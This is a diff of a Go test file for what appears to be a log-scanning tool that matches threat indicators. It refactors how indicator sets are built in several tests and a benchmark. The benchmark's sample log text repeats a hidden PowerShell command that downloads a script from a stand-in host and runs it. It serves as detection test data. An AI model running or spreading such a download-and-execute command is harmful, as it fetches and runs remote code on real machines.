@@ -24,7 +24,7 @@ func inText(t *testing.T, related bool, table string, field logs.Field, indicato
 	for _, spec := range indicators {
 		f.Indicators = append(f.Indicators, listed(t, spec))
 	}
-	set := newSet([]*feed.Result{f}, nil)
+	set := setOf(t, f)
 	w := &bench{judge: &judge{set: set, margin: indicator.DefaultMargin, related: related}, observer: observer{index: set.index}}
 	w.row("test", &logs.Record{Table: table, Line: 1, Fields: []logs.Field{field}})
 	for _, m := range told(w.out.matches) {
@@ -142,7 +142,7 @@ func TestPlainNames(t *testing.T) {
 
 // Lines of text have no time, and say nothing of it.
 func TestUndatedText(t *testing.T) {
-	w := &bench{judge: &judge{set: newSet(nil, nil)}, observer: observer{index: newSet(nil, nil).index}}
+	w := &bench{judge: &judge{set: setOf(t)}, observer: observer{index: setOf(t).index}}
 	for table, want := range map[string]int64{"": 0, "Text": 0, "Syslog": 1} {
 		w.out.undated = 0
 		if w.row("test", &logs.Record{Table: table}); w.out.undated != want {
@@ -187,7 +187,7 @@ func TestManyWords(t *testing.T) {
 }
 
 func BenchmarkText(b *testing.B) {
-	set := newSet([]*feed.Result{manyIndicators(100_000)}, nil)
+	set := setOf(b, manyIndicators(100_000))
 	o := &observer{index: set.index}
 	text := []byte(strings.Repeat(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://a.example:8080/a/b.ps1?x=1')" C:\Users\bob\x.log 10.0.0.1:80 `, 100))
 	b.SetBytes(int64(len(text)))
